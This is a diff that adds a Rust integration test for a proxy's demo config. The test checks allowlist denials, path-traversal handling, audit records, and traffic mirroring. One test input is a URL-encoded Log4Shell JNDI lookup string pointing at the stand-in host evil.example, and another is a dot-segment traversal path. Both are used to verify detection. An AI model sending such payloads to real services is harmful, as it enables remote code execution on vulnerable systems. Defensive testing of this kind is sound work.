@@ -225,3 +225,64 @@ fn audit_delivers_one_record_per_request_with_both_decisions() {
         .is_some());
     assert_eq!(chain.envoy.stat("meshsight_audit_records"), Some(3));
 }
+
+/// `make run` prints curl lines and says what each does; this is that promise, checked on the
+/// demo's own config (envoy-config/envoy.yaml) with its inline policies.
+#[test]
+fn demo_config_does_what_make_run_prints() {
+    let upstream = EchoUpstream::start();
+    let sensor = Sensor::start();
+    let collector = Collector::start();
+    let envoy = Envoy::builder("envoy-config/envoy.yaml")
+        .upstream(&upstream)
+        .sensor(&sensor)
+        .collector(&collector)
+        .concurrency(2)
+        .start()
+        .unwrap_or_else(|err| panic!("the demo config must start: {err}"));
+    let get = |target: &str| send(envoy.port(), &HttpRequest::get(target)).status;
+
+    assert_eq!(get("/api/items"), 200, "allowed");
+    assert_eq!(get("/admin"), 403, "outside the list");
+    assert_eq!(get("/api/../admin"), 403, "dot-segments resolved");
+    assert_eq!(get("/api/orders/42"), 200, "mirrored by rule, still served");
+    let jndi = "/api/items?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
+    assert_eq!(get(jndi), 200, "mirrored by signature, still served");
+
+    let mut mirrored: Vec<_> = sensor
+        .wait_for(2, WAIT)
+        .into_iter()
+        .map(|r| r.path)
+        .collect();
+    mirrored.sort_unstable();
+    assert_eq!(
+        mirrored,
+        vec![jndi.to_string(), "/api/orders/42".to_string()]
+    );
+
+    // "each request also yields an OCSF audit record, POSTed to the collector"
+    let deadline = Instant::now() + WAIT;
+    let mut records = 0;
+    while records < 5 && Instant::now() < deadline {
+        records = collector
+            .bodies()
+            .iter()
+            .map(|b| {
+                String::from_utf8_lossy(b)
+                    .lines()
+                    .filter(|l| !l.trim().is_empty())
+                    .count()
+            })
+            .sum();
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert_eq!(records, 5, "one audit record per request");
+    let stats = envoy
+        .admin_get("/stats?filter=meshsight")
+        .expect("admin stats");
+    assert!(
+        stats.text().contains("meshsight_allowlist_denied: 2"),
+        "{}",
+        stats.text()
+    );
+}
